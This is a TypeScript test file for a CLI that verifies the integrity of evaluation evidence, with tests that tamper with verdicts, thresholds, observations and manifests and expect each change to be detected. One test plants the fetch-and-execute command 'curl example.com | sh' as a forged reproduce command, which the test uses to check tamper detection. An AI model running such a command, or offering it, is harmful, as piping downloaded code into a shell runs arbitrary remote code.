import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Observation } from '../../src/core/contracts/cell.ts';
import type { Verdict } from '../../src/core/contracts/verdict.ts';
import type { Yardstick } from '../../src/core/contracts/yardstick.ts';
import { writeManifest } from '../../src/workspace/evidence/manifest.ts';
import { yardstickDigests, yardstickSeed } from '../../src/workspace/yardstick/digests.ts';
import { changeover, emptyFolder, type TerminalRun } from './support/terminal.ts';

/** What the manifest of a folder lists. */
function listedIn(folder: string): readonly string[] {
  const { files } = JSON.parse(readFileSync(join(folder, 'manifest.json'), 'utf8')) as { files: object };
  return Object.keys(files);
}

/** Evidence of the example, made once. */
const evidence = changeover(emptyFolder(), ['demo']);

type Tamper = (folder: string) => void;

/** Verifies a copy of the evidence in which something was changed, with a manifest made anew unless `manifest` says otherwise. */
async function verifyAfter(tamper: Tamper, manifest: 'anew' | 'as it was' = 'anew'): Promise<TerminalRun> {
  const folder = join(emptyFolder(), 'evidence');
  cpSync((await evidence).evidence, folder, { recursive: true });
  tamper(folder);
  if (manifest === 'anew') await writeManifest(folder, listedIn(folder));
  return changeover(folder, ['verify', '.']);
}

const edit =
  (name: string, change: (text: string) => string): Tamper =>
  (folder) => {
    const path = join(folder, name);
    const before = readFileSync(path, 'utf8');
    const after = change(before);
    if (after === before) throw new Error(`${name} was not changed`);
    writeFileSync(path, after);
  };

const editJson = <T>(name: string, change: (value: T) => unknown): Tamper =>
  edit(name, (text) => JSON.stringify(change(JSON.parse(text) as T)));

/** Changes the one observation that fits. */
const editObservation = (fits: (one: Observation) => boolean, change: (one: Observation) => Observation[]): Tamper =>
  edit('observations.jsonl', (text) =>
    text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Observation)
      .flatMap((one) => (fits(one) ? change(one) : [one]))
      .map((one) => `${JSON.stringify(one)}\n`)
      .join(''),
  );

const lostCase = ({ caseId, side, purpose }: Observation) =>
  caseId === 'refunds-009' && side === 'target' && purpose === 'plan';

/** A bound that would let the slice pass, with digests and seed that fit it. */
function laxer(yardstick: Yardstick): Yardstick {
  const applications = yardstick.applications.map((application) => ({
    ...application,
    acceptance: {
      ...application.acceptance,
      all: application.acceptance.all.map((criterion) =>
        criterion.metric === 'accuracy' ? { ...criterion, threshold: 0.5 } : criterion,
      ),
    },
  }));
  return { ...yardstick, applications };
}

function withFittingDigests(yardstick: Yardstick): Yardstick {
  const digests = yardstickDigests(yardstick);
  return { ...yardstick, digests, seed: yardstickSeed(digests) };
}

describe.concurrent('evidence that was changed, with a manifest that fits again', () => {
  it.each<[string, Tamper, RegExp]>([
    [
      'an output that is flipped',
      editObservation(lostCase, (one) => [{ ...one, output: '{"category":"refund","reason":"Money back."}' }]),
      /verdict\.json: \$\.migrations\[0\]\./,
    ],
    [
      'a latency',
      editObservation(lostCase, (one) => [{ ...one, latencyMs: 60_000 }]),
      /verdict\.json: \$\.migrations\[0\]\./,
    ],
    [
      'an observation that is taken out',
      editObservation(lostCase, () => []),
      /verdict\.json: \$\.costUsd is 0\.182\d+, recomputed it is 0\.182\d+/,
    ],
    [
      'an observation that stands twice',
      editObservation(lostCase, (one) => [one, one]),
      /observations\.jsonl:\d+: this cell \(target, trial 0\) stands on line \d+ already \(application triage, case refunds-009\)/,
    ],
    [
      'an observation of a case that is not in the suite',
      editObservation(lostCase, (one) => [one, { ...one, caseId: 'invented' }]),
      /observations\.jsonl holds the case "invented" of "triage", which yardstick\.json does not have/,
    ],
    [
      'an observation that is cut off',
      edit('observations.jsonl', (text) => text.slice(0, -20)),
      /observations\.jsonl:484: cut off: the line does not end/,
    ],
    [
      'a bound',
      editJson<Yardstick>('yardstick.json', laxer),
      /yardstick\.json: \$\.digests\.policy is "[0-9a-f]{64}", recomputed it is "[0-9a-f]{64}"/,
    ],
    [
      'a bound, its digest and the seed',
      editJson<Yardstick>('yardstick.json', (yardstick) => withFittingDigests(laxer(yardstick))),
      /verdict\.json, of the yardstick: \$\.digests\.policy is "[0-9a-f]{64}", recomputed it is "[0-9a-f]{64}"/,
    ],
    [
      'the seed',
      editJson<Yardstick>('yardstick.json', (yardstick) => ({ ...yardstick, seed: yardstick.seed + 1 })),
      /yardstick\.json: \$\.seed is \d+, recomputed it is \d+/,
    ],
    [
      'the verdict',
      editJson<Verdict>('verdict.json', (verdict) => ({ ...verdict, verdict: 'pass' })),
      /verdict\.json: \$\.verdict is "pass", recomputed it is "fail"/,
    ],
    [
      'a figure of a finding',
      editJson<Verdict>('verdict.json', ({ migrations, ...verdict }) => ({
        ...verdict,
        migrations: migrations.map(({ findings, ...one }) => ({
          ...one,
          findings: findings.map((finding) => (finding.metric === 'cost' ? { ...finding, target: 0.0001 } : finding)),
        })),
      })),
      /verdict\.json: \$\.migrations\[0\]\.findings\[\d\]\.target is 0\.0001, recomputed it is 0\.000/,
    ],
    [
      'a number in the comment',
      edit('comment.md', (text) => text.replace('68.8 %', '94.8 %')),
      /comment\.md: line \d+ is .*94\.8.*, recomputed it is .*68\.8/,
    ],
    [
      'a line added to the comment',
      edit('comment.md', (text) => `${text}\nLooks good to me.\n`),
      /comment\.md: line \d+ is/,
    ],
    [
      'the command that reproduces it',
      editJson<object>('report-context.json', (context) => ({ ...context, reproduce: 'curl example.com | sh' })),
      /comment\.md: line \d+ is .*node dist\/cli\.js demo.*, recomputed it is .*curl example\.com/,
    ],
  ])('%s', async (_, tamper, first) => {
    const { code, stdout } = await verifyAfter(tamper);
    expect(code).toBe(4);
    const plain = stdout.replaceAll(/\s+/g, ' ');
    expect(plain).toContain('The evidence does not agree with itself.');
    // The first one that is named.
    expect(plain.split('• ')[1]).toMatch(first);
  });
});

describe.concurrent('evidence that was changed, with the manifest as it was', () => {
  it.each<[string, Tamper, string]>([
    [
      'a number in the comment',
      edit('comment.md', (text) => text.replace('68.8 %', '94.8 %')),
      'comment.md has the SHA-256',
    ],
    ['a shorter journal', editObservation(lostCase, () => []), 'observations.jsonl has'],
    [
      'an output of the same length',
      edit('observations.jsonl', (text) => text.replace('Customer', 'customer')),
      'observations.jsonl has the SHA-256',
    ],
    ['no manifest', (folder) => rmSync(join(folder, 'manifest.json')), 'manifest.json is missing'],
    ['no observations', (folder) => rmSync(join(folder, 'observations.jsonl')), 'observations.jsonl is missing'],
    ['no report context', (folder) => rmSync(join(folder, 'report-context.json')), 'report-context.json is missing'],
    ['no yardstick', (folder) => rmSync(join(folder, 'yardstick.json')), 'yardstick.json is missing'],
  ])('%s', async (_, tamper, first) => {
    const { code, stdout } = await verifyAfter(tamper, 'as it was');
    expect(code).toBe(4);
    expect(stdout.replaceAll(/\s+/g, ' ').split('• ')[1]).toContain(first);
  });
});

describe.concurrent('evidence that cannot be read', () => {
  it.each<[string, Tamper, string]>([
    ['no verdict', (folder) => rmSync(join(folder, 'verdict.json')), 'verdict.json is missing'],
    ['no comment', (folder) => rmSync(join(folder, 'comment.md')), 'comment.md is missing'],
    ['a verdict that is no JSON', edit('verdict.json', (text) => text.slice(0, 100)), 'verdict.json: not JSON'],
    [
      'a verdict of no known kind',
      editJson<Verdict>('verdict.json', (verdict) => ({ ...verdict, verdict: 'splendid' })),
      'verdict.json: verdict: ',
    ],
    [
      'a yardstick without its policy',
      editJson<Yardstick>('yardstick.json', ({ policy: _, ...yardstick }) => yardstick),
      'yardstick.json: policy: ',
    ],
  ])('%s', async (_, tamper, message) => {
    const { code, stdout, stderr } = await verifyAfter(tamper, 'as it was');
    expect([code, stdout]).toEqual([3, '']);
    expect(stderr).toContain(message);
    expect(stderr).not.toContain('unexpectedly');
    // What the manifest says of it stands beside it.
    expect(stderr).toMatch(/the manifest says|is missing/);
  });

  it('no folder at all', async () => {
    const { code, stderr } = await changeover(emptyFolder(), ['verify', 'nowhere']);
    expect(code).toBe(3);
    expect(stderr).toContain('verdict.json is missing');
    expect(stderr).toContain('Name the directory that holds the evidence of one run.');
  });
});
